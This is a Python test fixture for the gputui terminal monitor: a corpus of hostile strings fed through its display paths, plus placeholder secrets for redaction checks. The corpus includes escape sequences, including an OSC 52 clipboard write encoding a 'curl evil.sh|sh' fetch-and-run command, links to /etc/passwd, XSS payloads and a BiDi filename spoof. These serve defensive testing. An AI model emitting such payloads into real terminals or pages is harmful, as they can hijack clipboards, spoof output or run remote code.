"""A hostile corpus: text an attacker (or a broken exporter) can put where gputui reads.

Each surface test feeds the same strings through its own path; facts about what each
string does to a terminal are from the VT/xterm control-sequence documentation.
"""

from __future__ import annotations

import dataclasses
import tracemalloc
from collections.abc import Iterator, Sequence
from contextlib import contextmanager

from hypothesis import HealthCheck, settings

from gputui.core.model import DeviceInfo, Frame, Note
from gputui.core.names import NoteKind
from gputui.sources.simulated import SimulatedSource

#: the most one hostile input may make the reader of it allocate, at its peak
MEMORY_BOUND = 64 * 1024 * 1024


@contextmanager
def peak_below(bound: int = MEMORY_BOUND) -> Iterator[None]:
    """What the block allocates at its peak (tracemalloc) stays below ``bound`` bytes."""
    tracemalloc.start()
    try:
        yield
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < bound, f"peak {peak / 1e6:.1f} MB"


def fuzz_settings(max_examples: int) -> settings:
    """Hypothesis as the fuzz tests run it: the same examples every run (CI reproduces a
    failure), no example database, no deadline on a shared machine."""
    return settings(
        max_examples=max_examples,
        deadline=None,
        derandomize=True,
        database=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )


CORPUS: dict[str, str] = {
    "CSI colour": "\x1b[31mred\x1b[0m",
    "CSI clear screen": "\x1b[2J\x1b[H",
    "OSC title": "\x1b]0;pwned\x07",
    "OSC 52 clipboard write": "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07",
    "OSC 8 link": "\x1b]8;;file:///etc/passwd\x1b\\click\x1b]8;;\x1b\\",
    "C1 CSI": "\x9b31mc1\x9b0m",
    "bell and backspace": "ring\x07\x08\x08\x08",
    "newline in argv": "train.py\n# Heading\n| a | b |",
    "carriage return overwrite": "innocent\rEVIL",
    "BiDi override": "invoice\u202egpj.exe",
    "zero width": "py\u200bthon\u200d",
    "lone surrogate": "bad\udcffbytes",
    "rich markup close": "[/]",
    "rich markup link": "[link=file:///etc/passwd]x[/link]",
    "rich markup style": "[bold red]loud[/bold red]",
    "markdown html": "<img src=x onerror=alert(1)>",
    "markdown link": "[click](javascript:alert(1))",
    "very long": "A" * 100_000,
}

SECRETS = {
    "--password=": "hunter2",
    "HF_TOKEN=": "hf_abcdefSECRET",
    "--api-key ": "sk-SECRETKEY",
}
SECRET_COMMAND = (
    "python train.py --password=hunter2 --api-key sk-SECRETKEY "
    "--data https://bob:s3cretpw@data.example.org/x HF_TOKEN=hf_abcdefSECRET"
)
SECRET_VALUES = ("hunter2", "sk-SECRETKEY", "s3cretpw", "hf_abcdefSECRET")

#: what must never reach a terminal or a file raw
FORBIDDEN = ("\x1b", "\x9b", "\x07", "\x08", "\r", "\u202e", "\u200b", "\udcff")


def everything() -> str:
    return " ".join(v[:200] for v in CORPUS.values())


class HostileSource(SimulatedSource):
    """The demo node, with every outside string replaced by hostile ones."""

    def __init__(self, scenarios: Sequence[str], texts: Sequence[str], **kw: object) -> None:
        super().__init__(scenarios, **kw)  # type: ignore[arg-type]
        self._texts = list(texts)

    def _text(self, i: int) -> str:
        return self._texts[i % len(self._texts)]

    def open(self) -> tuple[DeviceInfo, ...]:
        return tuple(
            dataclasses.replace(d, name=self._text(d.index), uuid=self._text(d.index + 1))
            for d in super().open()
        )

    def read(self) -> Frame:
        frame = super().read()
        processes = tuple(
            dataclasses.replace(
                p,
                command=f"{self._text(i)} {SECRET_COMMAND}",
                user=self._text(i + 2),
                env=(f"HF_TOKEN={SECRETS['HF_TOKEN=']}", f"X={self._text(i + 3)}"),
            )
            for i, p in enumerate(frame.processes)
        )
        host = frame.host and dataclasses.replace(frame.host, hostname=self._text(4))
        notes = (Note(NoteKind.GENERAL, self._text(5)),)
        return dataclasses.replace(frame, processes=processes, host=host, notes=notes)
